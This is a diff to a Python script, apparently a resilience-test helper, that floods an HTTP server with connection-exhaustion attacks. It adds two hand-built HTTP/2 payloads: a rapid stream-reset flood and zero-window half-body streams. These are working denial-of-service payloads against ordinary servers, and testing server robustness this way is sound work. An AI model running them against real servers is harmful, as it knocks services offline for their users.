@@ -3,7 +3,8 @@
     http_attack.py KIND SOURCE ADDRESS PORT COUNT
 
 KIND: `idle` opens connections; `head` sends half a head on each, `body` half a body of a megabyte, `unread` asks for many
-answers and reads none, `churn` opens and closes. Connections that the server closes are opened again. Prints `ready`
+answers and reads none, `churn` opens and closes; by HTTP/2 `resets` takes back its calls, and `streams` has a hundred
+calls with half a body, and windows of nothing for their answers. Connections that the server closes are opened again. Prints `ready`
 when it has tried all of them once; ends when its standard input does.
 """
 
@@ -19,7 +20,19 @@ import time
 HEAD = b"POST / HTTP/1.1\r\nHost: x\r\n"
 BODY = HEAD + b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000000\r\n\r\n" + b"x" * 900_000
 UNREAD = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 2000
-WHAT = {"idle": b"", "head": HEAD, "body": BODY, "unread": UNREAD, "churn": b""}
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    """Of HTTP/2 (RFC 9113, 4.1)."""
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+# SETTINGS with an initial window of nothing; then POST / of the host x, whose body follows.
+BEGIN = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"\0\4\0\0\0\0")
+CALL = b"\x83\x86\x84\x41\x01x"
+RESETS = BEGIN + b"".join(frame(1, 4, n, CALL) + frame(3, 0, n, b"\0\0\0\x08") for n in range(1, 1000, 2))
+STREAMS = BEGIN + b"".join(frame(1, 4, n, CALL) + frame(0, 0, n, b"x" * 1200) for n in range(1, 200, 2))
+WHAT = {"idle": b"", "head": HEAD, "body": BODY, "unread": UNREAD, "churn": b"", "resets": RESETS, "streams": STREAMS}
 
 
 class Connection:
